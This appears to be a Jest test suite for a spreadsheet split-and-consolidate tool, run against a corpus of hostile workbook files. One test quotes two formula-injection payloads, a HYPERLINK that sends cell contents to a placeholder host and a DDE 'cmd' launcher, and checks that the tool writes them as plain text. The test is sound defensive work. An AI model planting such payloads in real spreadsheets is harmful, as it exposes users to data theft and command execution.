// split and consolidate over the hostile corpus: no throw, a Japanese reason naming each
// refused file, the other files go on, cells are conserved, text stays text, outputs are
// written atomically or not at all (read-only folder, output = input).
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import * as XLSX from 'xlsx';
import { main } from '../../lib/cli/main';
import { defaultConfig } from '../../lib/config';
import { consolidate } from '../../lib/consolidate/consolidate';
import { split } from '../../lib/consolidate/split';
import type { Summary } from '../../lib/consolidate/types';
import { readErrors, type ReadMessageId } from '../../lib/locale/ja/read';
import { readWorkbook } from '../../lib/read/workbook';
import { capture } from './io';

const CORPUS = path.join(__dirname, '..', 'fixtures', 'hostile', 'files');
const corpus = fs.readdirSync(CORPUS).sort();
const codeOf = (name: string): string => name.slice(0, name.indexOf('.'));
/** The fixed start of the Japanese reason for a code (up to its first placeholder). */
const reasonOf = (code: string): string => readErrors[code as ReadMessageId].split('{')[0]!;

let work: string;
beforeAll(() => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'shinchoku-hostile-cmd-'));
});
afterAll(() => {
  spawnSync('chattr', ['-R', '-i', work]);
  fs.rmSync(work, { recursive: true, force: true });
});

interface ChildResult {
  timedOut: boolean;
  code: number;
  out: string;
  err: string;
  maxRssMB?: number;
}

/** main(args) in a child process (tests/hostile/child.js), killed `ms` after it is ready. */
function runChild(args: string[], ms: number): Promise<ChildResult> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(__dirname, 'child.js'), ...args]);
    let stdout = '';
    let stderr = '';
    let timedOut = false;
    const kill = (): void => {
      timedOut = true;
      child.kill('SIGKILL');
    };
    let timer = setTimeout(kill, 120_000);
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
      if (stderr.startsWith('READY\n') && stderr.length - d.length < 6) {
        clearTimeout(timer);
        timer = setTimeout(kill, ms);
      }
    });
    child.on('close', () => {
      clearTimeout(timer);
      try {
        resolve({ timedOut, ...(JSON.parse(stdout) as Omit<ChildResult, 'timedOut'>) });
      } catch {
        resolve({ timedOut, code: -1, out: stdout, err: stderr.replace(/^READY\n/, '') });
      }
    });
  });
}

/** A folder nobody can write to, root included (chmod alone does not stop root). */
function readOnlyDir(dir: string): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.chmodSync(dir, 0o555);
  const probe = path.join(dir, 'probe');
  const writable = (): boolean => {
    try {
      fs.writeFileSync(probe, 'x');
      fs.unlinkSync(probe);
      return true;
    } catch {
      return false;
    }
  };
  if (writable()) spawnSync('chattr', ['+i', dir]);
  if (writable()) throw new Error(`cannot make ${dir} read-only here (need chattr or a non-root user)`);
}

/** Files that expand or span the whole sheet: run in child processes (a hang is killed). */
const mayHang = (name: string): boolean => name.startsWith('expanded-too-large.') || name.includes('far-corner');

function expectSplitAnswer(name: string, code: number, fullErr: string): void {
  // Messages may quote a cell of a megabyte; compare on the start only.
  const err = fullErr.length > 2000 ? `${fullErr.slice(0, 2000)}…` : fullErr;
  const expected = codeOf(name);
  if (expected !== 'ok' && expected !== 'no-report') {
    expect(code).toBe(2);
    expect(err).toContain(name);
    // The same reason validate gives, in Japanese.
    expect(err).toContain(reasonOf(expected));
  } else {
    expect([0, 1, 2]).toContain(code);
    if (code === 2) expect(err).toContain(name);
  }
}

describe('split with each corpus file as the master', () => {
  test.each(corpus.filter((n) => !mayHang(n)))('%s', (name) => {
    const out = path.join(work, 'split', name.replace(/[^\w.-]/g, '_').slice(0, 60));
    const io = capture();
    const code = main(['split', path.join(CORPUS, name), '-o', out, '--format', 'json'], io);
    expectSplitAnswer(name, code, io.errText());
    if (code < 2) expect(fs.readdirSync(out).length).toBeGreaterThan(0);
  });

  describe('files that expand: in parallel child processes, 10 s each', () => {
    const results = new Map<string, ChildResult>();
    beforeAll(async () => {
      const names = corpus.filter(mayHang);
      const got = await Promise.all(names.map((n) => runChild(['split', path.join(CORPUS, n), '-o', path.join(work, 'split-child', n)], 10_000)));
      names.forEach((n, i) => results.set(n, got[i]!));
    }, 150_000);
    test.each(corpus.filter(mayHang))('%s', (name) => {
      const r = results.get(name)!;
      expect([name, r.timedOut]).toEqual([name, false]);
      expectSplitAnswer(name, r.code, r.err);
    });
  });

  test('text starting with = + - @ is written as text, never as a formula', () => {
    const out = path.join(work, 'split-injection');
    expect(main(['split', path.join(CORPUS, 'ok.formula-injection-text.xlsx'), '-o', out], capture())).toBeLessThan(2);
    const written = fs.readdirSync(out);
    expect(written.length).toBeGreaterThan(0);
    const texts: string[] = [];
    for (const f of written) {
      const bytes = fs.readFileSync(path.join(out, f));
      for (const [part, data] of Object.entries(unzipSync(bytes))) {
        if (part.startsWith('xl/worksheets/')) expect(strFromU8(data)).not.toMatch(/<f[ >]/);
      }
      for (const s of readWorkbook(bytes, f).sheets) for (const row of s.rows.values()) for (const c of row.values()) {
        if (/^[=+\-@]/.test(c.text)) {
          expect(c.formula).toBeUndefined();
          texts.push(c.text);
        }
      }
    }
    expect(texts).toEqual(expect.arrayContaining(['=HYPERLINK("http://example.invalid/?q="&A1,"詳細")', "+cmd|' /C calc'!A0"]));
  });
});

describe('publish with each corpus file as the consolidated master', () => {
  test.each(corpus.filter((n) => !mayHang(n)))('%s', (name) => {
    const out = path.join(work, 'publish', `${name.replace(/[^\w.-]/g, '_').slice(0, 60)}.xlsx`);
    fs.mkdirSync(path.dirname(out), { recursive: true });
    const io = capture();
    const code = main(['publish', path.join(CORPUS, name), '-o', out], io);
    // The same answers as split gives for the same file, and a written file when it could run.
    expectSplitAnswer(name, code, io.errText());
    expect([name, fs.existsSync(out)]).toEqual([name, code < 2]);
  });
});

describe('consolidate a master with the whole corpus as returned files', () => {
  let summary: Summary;
  let code: number;
  let returned: string;
  const master = (): string => path.join(work, 'master.xlsx');

  beforeAll(() => {
    fs.copyFileSync(path.join(CORPUS, 'ok.report.xlsx'), master());
    returned = path.join(work, 'returned');
    // The departments' own files first, then every hostile file beside them.
    expect(main(['split', master(), '-o', returned], capture())).toBeLessThan(2);
    for (const f of corpus) fs.copyFileSync(path.join(CORPUS, f), path.join(returned, f));
    fs.mkdirSync(path.join(work, 'out'));
    const io = capture();
    code = main(['consolidate', master(), returned, '-o', path.join(work, 'out', '集約.xlsx'), '--format', 'json'], io);
    if (io.outText() === '') throw new Error(`consolidate printed nothing; stderr: ${io.errText()}`);
    summary = JSON.parse(io.outText()) as Summary;
  }, 60_000);

  test('every returned file is in the summary; bad ones with their reason, the rest applied or explained', () => {
    expect(code).toBe(1);
    const names = summary.files.map((f) => path.basename(f.file));
    for (const f of corpus) expect(names).toContain(f);
    for (const f of summary.files) {
      const expected = codeOf(path.basename(f.file));
      if (['ok', 'no-report', '子)児童相談所', '子)子育て支援部'].includes(expected) || !corpus.includes(path.basename(f.file))) continue;
      expect([path.basename(f.file), f.status]).toEqual([path.basename(f.file), 'unreadable']);
      expect(f.reason).toContain(reasonOf(expected));
    }
    // The departments' own files went on despite their hostile neighbours.
    expect(summary.files.filter((f) => f.status === 'applied').map((f) => path.basename(f.file)).sort()).toEqual(['子)児童相談所.xlsx', '子)子育て支援部.xlsx']);
  });

  test('cells are conserved: in = out + base + control + reported', () => {
    const c = summary.cells;
    expect(c.in).toBeGreaterThan(0);
    expect(c.in).toBe(c.out + c.base + c.control + c.reported);
  });

  test('the output opens and is not an input', () => {
    const bytes = fs.readFileSync(path.join(work, 'out', '集約.xlsx'));
    expect(readWorkbook(bytes, '集約.xlsx').sheets.length).toBeGreaterThan(0);
  });
});

describe('large returned files', () => {
  // A department's file plus a sheet of 135,000 numbers (a pasted data dump): every cell
  // must be traced. Rules off: this is about bookkeeping, not validation speed.
  test('consolidate survives a returned file of 135,000 cells and conserves them', () => {
    const master = fs.readFileSync(path.join(CORPUS, 'ok.report.xlsx'));
    const part = split(master, defaultConfig()).files[0]!;
    const wb = XLSX.read(part.bytes, { type: 'buffer' });
    const dump = Array.from({ length: 13_500 }, (_, r) => Array.from({ length: 10 }, (_, c) => r * 10 + c));
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(dump), 'メモ');
    const bytes = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
    const { summary } = consolidate(master, [{ name: part.name, bytes }], defaultConfig(), { validate: false });
    const c = summary.cells;
    expect(c.in).toBeGreaterThan(135_000);
    expect(c.in).toBe(c.out + c.base + c.control + c.reported);
  });
});

describe('outputs', () => {
  test('output path equal to an input: refused, input untouched', () => {
    const m = path.join(work, 'same', 'master.xlsx');
    fs.mkdirSync(path.dirname(m), { recursive: true });
    fs.copyFileSync(path.join(CORPUS, 'ok.report.xlsx'), m);
    const before = fs.readFileSync(m);
    const retDir = path.join(work, 'same', 'ret');
    expect(main(['split', m, '-o', retDir], capture())).toBeLessThan(2);
    const victim = path.join(retDir, fs.readdirSync(retDir)[0]!);
    const victimBefore = fs.readFileSync(victim);
    for (const out of [m, victim]) {
      const io = capture();
      expect(main(['consolidate', m, retDir, '-o', out], io)).toBe(2);
      expect(io.errText()).toContain(out);
    }
    expect(fs.readFileSync(m).equals(before)).toBe(true);
    expect(fs.readFileSync(victim).equals(victimBefore)).toBe(true);
    // split into the master's own folder where a department file would replace the master
    // is not possible by name; the master is never a target.
    expect(fs.readdirSync(path.dirname(m)).sort()).toEqual(['master.xlsx', 'ret']);
  });

  test('read-only output folder: exit 2 naming it, nothing half-written left', () => {
    const ro = path.join(work, 'readonly');
    readOnlyDir(ro);
    const m = path.join(CORPUS, 'ok.report.xlsx');
    const io1 = capture();
    expect(main(['split', m, '-o', ro], io1)).toBe(2);
    expect(io1.errText()).toContain(ro);
    const io2 = capture();
    expect(main(['consolidate', m, path.join(CORPUS, 'ok.biff8-by-libreoffice.xls'), '-o', path.join(ro, 'out.xlsx')], io2)).toBe(2);
    expect(io2.errText()).toContain(path.join(ro, 'out.xlsx'));
    expect(fs.readdirSync(ro)).toEqual([]);
  });
});

describe('inputs that are not plain files (run in a child process: a hang must not hang jest)', () => {
  let fifo: string;
  beforeAll(() => {
    fifo = path.join(work, 'pipe.xlsx');
    const r = spawnSync('mkfifo', [fifo]);
    if (r.status !== 0) throw new Error('mkfifo failed');
  });

  test('validate: a named pipe gets a reason, no wait', async () => {
    const r = await runChild(['validate', fifo, path.join(CORPUS, 'ok.report.xlsx')], 10_000);
    expect(r.timedOut).toBe(false);
    expect(r.code).toBe(2);
    expect(r.out).toContain(readErrors['not-a-file']!);
    expect(r.out).toContain('ok.report.xlsx（');
  });

  test('consolidate: a named pipe among the returned files gets a reason, no wait', async () => {
    const r = await runChild(['consolidate', path.join(CORPUS, 'ok.report.xlsx'), fifo, path.join(CORPUS, 'ok.biff8-by-libreoffice.xls'), '-o', path.join(work, 'fifo-out.xlsx')], 10_000);
    expect(r.timedOut).toBe(false);
    expect(r.code).toBe(1);
  });
});
